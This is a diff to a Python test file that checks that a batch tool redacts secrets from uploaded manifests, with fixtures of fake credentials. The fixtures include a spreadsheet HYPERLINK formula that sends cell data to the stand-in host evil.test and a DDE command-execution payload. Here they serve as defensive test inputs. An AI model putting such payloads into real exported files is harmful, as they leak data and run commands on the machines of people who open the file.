@@ -87,6 +87,7 @@ def test_an_unknown_batch_or_store_is_one_line(tmp_path: Path, s3: dict[str, str
 AWS_KEY = "AKIAIOSFODNN7EXAMPL3"
 GH_TOKEN = "ghp_" + "A1b2C3d4E5f6G7h8I9j0" * 2
 DB_PASSWORD = "hunter2-correct-horse"
+PLAIN = "Tr0ub4dor-and-3"  # a --var value no shape or name marks
 JWT = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.c2lnbmF0dXJlLXNpZ25lZA"
 FORMULA = "=HYPERLINK(\"http://evil.test/?\"&A1,\"click\")"
 
@@ -110,9 +111,10 @@ def _secret_batch(tmp_path: Path, s3: dict[str, str], prefix: str) -> tuple[str,
     """A batch whose --var values and item fields hold secrets, published to `prefix`."""
     items = edit_items(tmp_path, 2)
     wf = tmp_path / "wf.toml"
+    declared = '[workflow.vars]\napi_token = ""\ndb_password = ""\ndb = ""\n\n'
+    uses = '[[workflow.steps]]\nname = "use"\naction = "run true {db}"\n'  # in the journal
     wf.write_text(wf.read_text().replace("[workflow.permissions]",
-                                         '[workflow.vars]\napi_token = ""\ndb_password = ""\n\n'
-                                         "[workflow.permissions]"))
+                                         declared + "[workflow.permissions]") + uses)
     rows = [json.loads(line) for line in items.read_text().splitlines()]
     rows[0].update(key=AWS_KEY, token=JWT, note=FORMULA, count="-3")
     rows[1].update(note="-2+3+cmd|' /C calc'!A0", extra=f"id_{GH_TOKEN}")
@@ -120,12 +122,13 @@ def _secret_batch(tmp_path: Path, s3: dict[str, str], prefix: str) -> tuple[str,
     store = f"s3://{BUCKET}/{prefix}"
     done = cli("batch", "wf.toml", "--items", str(items), "--store", store,
                "--var", f"api_token={GH_TOKEN}", "--var", f"db_password={DB_PASSWORD}",
+               "--var", f"db={PLAIN}",
                cwd=tmp_path, home=tmp_path / "runner", **s3)
     assert done.returncode == 0, done.stdout + done.stderr
     return batch_id(done.stdout), store
 
 
-SECRETS = (AWS_KEY, GH_TOKEN, DB_PASSWORD, JWT)
+SECRETS = (AWS_KEY, GH_TOKEN, DB_PASSWORD, JWT, PLAIN)
 
 
 def test_what_a_batch_uploads_is_redacted_and_the_local_store_stays_exact(
@@ -136,10 +139,12 @@ def test_what_a_batch_uploads_is_redacted_and_the_local_store_stays_exact(
     for key, data in uploaded.items():
         assert not [s for s in SECRETS if s.encode() in data], key
     manifest = json.loads(uploaded[f"secrets/batches/{batch}/manifest.json"])
-    assert manifest["variables"] == {"api_token": "[REDACTED]", "db_password": "[REDACTED]"}
+    assert manifest["variables"] == dict.fromkeys(("api_token", "db", "db_password"),
+                                                  "[REDACTED]")
     assert manifest["items"][0]["key"] == "[REDACTED]" and manifest["items"][0]["word"] == "word0"
     local = json.loads((tmp_path / "runner" / "batches" / batch / "manifest.json").read_text())
-    assert local["variables"] == {"api_token": GH_TOKEN, "db_password": DB_PASSWORD}
+    assert local["variables"] == {"api_token": GH_TOKEN, "db_password": DB_PASSWORD,
+                                  "db": PLAIN}
     assert local["items"][0]["key"] == AWS_KEY  # the exact data, owner-only, for resume
 
 
